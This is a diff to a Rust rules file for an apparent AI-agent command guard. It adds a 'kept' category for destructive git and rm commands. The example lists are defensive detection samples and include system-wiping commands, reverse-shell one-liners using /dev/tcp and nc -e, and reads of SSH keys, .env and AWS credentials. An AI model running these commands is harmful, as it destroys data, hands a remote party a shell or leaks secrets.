@@ -3,7 +3,7 @@
 //! Invariant: every example is found by its own rule and every counter-example by none; a test runs them all.
 
 use super::rule::Severity::{Critical, High, Medium};
-use super::rule::{Rule, Severity};
+use super::rule::{Rule, Severity, Usual};
 
 type Lines = &'static [&'static str];
 
@@ -11,12 +11,17 @@ type Lines = &'static [&'static str];
 const fn asked(key: &'static str, severity: Severity, texts: [&'static str; 2], lines: [Lines; 2]) -> Rule {
     let [reason, instead] = texts;
     let [examples, counter] = lines;
-    Rule { key, severity, is_denied: false, reason, instead, examples, counter }
+    Rule { key, severity, usual: Usual::Ask, reason, instead, examples, counter }
+}
+
+/// What it would lose is kept, and it passes; where that cannot be, a person is asked.
+const fn kept(key: &'static str, severity: Severity, texts: [&'static str; 2], lines: [Lines; 2]) -> Rule {
+    Rule { usual: Usual::Keep, ..asked(key, severity, texts, lines) }
 }
 
 /// What it finds is refused.
 const fn denied(key: &'static str, severity: Severity, texts: [&'static str; 2], lines: [Lines; 2]) -> Rule {
-    Rule { is_denied: true, ..asked(key, severity, texts, lines) }
+    Rule { usual: Usual::Deny, ..asked(key, severity, texts, lines) }
 }
 
 /// The rule of this id.
@@ -28,11 +33,11 @@ pub fn rule(id: &str) -> Option<&'static Rule> {
 #[rustfmt::skip]
 pub static RULES: &[Rule] = &[
     // Work and history.
-    asked("danger.git-discard", High,
+    kept("danger.git-discard", High,
         ["throws away changes that are not committed", "use `git stash push`, which takes them out of the files and keeps them"],
         [&["git reset --hard", "git checkout -- .", "git checkout src/a.txt", "git restore src/main.rs", "git switch --discard-changes main"],
          &["git checkout -b topic", "git restore --staged .", "git reset --soft HEAD~1", "git switch main"]]),
-    asked("danger.git-clean", High,
+    kept("danger.git-clean", High,
         ["removes untracked files for good", "remove by name what you made; `git clean -n` lists what is there"],
         [&["git clean -fdx", "git clean --force"], &["git clean -n", "git clean -fdn"]]),
     asked("danger.git-force-push", Critical,
@@ -43,18 +48,18 @@ pub static RULES: &[Rule] = &[
         ["removes branches or tags of a remote", "leave them, and tell the user which of them may go"],
         [&["git push origin --delete topic", "git push origin :topic", "git push --mirror backup"],
          &["git push origin main:topic", "git fetch --prune"]]),
-    asked("danger.git-delete-branch", High,
+    kept("danger.git-delete-branch", High,
         ["removes a branch or tag whose commits may be nowhere else", "remove a merged branch with `git branch -d`; leave other branches, and tags"],
         [&["git branch -D topic", "git branch --delete --force topic", "git tag -d v1"],
          &["git branch -d topic", "git branch -m old new", "git tag v1"]]),
-    asked("danger.git-drop-stash", High,
+    kept("danger.git-drop-stash", High,
         ["loses stashed changes", "use `git stash apply`, and keep the stash"],
         [&["git stash drop", "git stash clear"], &["git stash pop", "git stash list"]]),
     asked("danger.git-history", Critical,
         ["rewrites or prunes history, after which nothing can be found again", "leave it as it is; `git revert` undoes a commit, and `git gc` keeps what may be needed"],
         [&["git reflog expire --expire=now --all", "git gc --prune=now", "git filter-branch --all", "git update-ref -d HEAD"],
          &["git reflog", "git gc", "git lfs ls-files"]]),
-    asked("danger.git-remove-worktree", Medium,
+    kept("danger.git-remove-worktree", Medium,
         ["removes a working tree with its changes", "use `git worktree remove` without force"],
         [&["git worktree remove --force ../other"], &["git worktree remove ../other", "git worktree list"]]),
     asked("danger.git-internals", High,
@@ -63,24 +68,24 @@ pub static RULES: &[Rule] = &[
     denied("danger.rm-system", Critical,
         ["removes a folder of the system or a whole home folder", "remove only what is in the project or below `/tmp`"],
         [&["rm -rf /", "rm -rf ~", "sudo rm -rf /usr", "rm -rf /*", "find / -delete", "rm -rf /tmp"], &["rm -rf /tmp/x", "rm -rf /tmp/*", "echo 'rm -rf /'"]]),
-    asked("danger.rm-project", Critical,
+    kept("danger.rm-project", Critical,
         ["removes the project or its repository", "remove by name the files that are meant"],
         [&["rm -rf .", "rm -rf *", "rm -rf .git", "rm -rf ./"], &["rm -rf node_modules", "rm -rf target", "rm *.o"]]),
-    asked("danger.rm-source", High,
+    kept("danger.rm-source", High,
         ["removes a folder of sources with everything in it, or every file of a kind", "remove by name the files that are meant"],
         [&["rm -rf src", "rm -r ./docs", "rm src/*.rs", "git rm -r src"], &["rm -rf dist", "rm src/old.rs", "rm -rf build/lib", "git rm one.txt"]]),
-    asked("danger.rm-outside", High,
+    kept("danger.rm-outside", High,
         ["removes a folder outside the project", "leave it; a folder below `/tmp` may go"],
         [&["rm -rf ~/Documents/old", "rm -rf ../other", "rm -rf /data/x"], &["rm -rf /tmp/x", "rm -rf $TMPDIR/x", "rm -rf ~/.cache/x"]]),
     asked("danger.rm-unknown", High,
         ["removes what only the running shell knows the name of; if that is empty, something else goes", "write the path out"],
         [&["rm -rf \"$BUILD_DIR\"", "rm -rf $x/*", "ls | xargs rm"],
          &["d=$(mktemp -d); rm -rf \"$d\"", "x=build; rm -rf \"$x\"", "rm \"$file\""]]),
-    asked("danger.find-delete", High,
+    kept("danger.find-delete", High,
         ["removes everything that a search finds", "list them with `-print`, and remove by name those that are meant"],
         [&["find . -type f -delete", "find src -name '*.rs' -exec rm {} +"],
          &["find /tmp/x -delete", "find . -name '*.pyc' -delete", "find . -name '*.rs' -print"]]),
-    asked("danger.file-wipe", High,
+    kept("danger.file-wipe", High,
         ["destroys the content of files, or a history of commands", "move the files below `/tmp`"],
         [&["shred -u notes.txt", "truncate -s 0 data.db", "dd if=/dev/zero of=disk.img", "tar --remove-files -czf a.tgz notes", ": > src/main.rs"],
          &["truncate -s 10M f.img", "shred /tmp/x", "dd if=a of=/tmp/b", ": > build.log"]]),
@@ -151,7 +156,7 @@ pub static RULES: &[Rule] = &[
         ["gives another machine a shell on this one", "use ssh"],
         [&["bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "nc -e /bin/sh 10.0.0.1 4444"], &["nc -z localhost 80", "nc -l 8080"]]),
     // Secrets.
-    asked("danger.secret-file", High,
+    kept("danger.secret-file", High,
         ["reads, copies or changes a file of secrets", "read a file like `.env.example`, or let the user tell you the names in it"],
         [&["cat .env", "Read: /home/u/.ssh/id_rsa", "grep KEY .env.production", "cp ~/.aws/credentials /tmp/", "Edit: .env", "mcp__files__read_file: /home/u/.netrc"],
          &["cat .env.example", "ls ~/.ssh", "ssh -i ~/.ssh/id_rsa host", "cat ~/.ssh/id_rsa.pub", "Read: src/env.rs", "Write: config/secrets.toml", "echo .env >> .gitignore"]]),
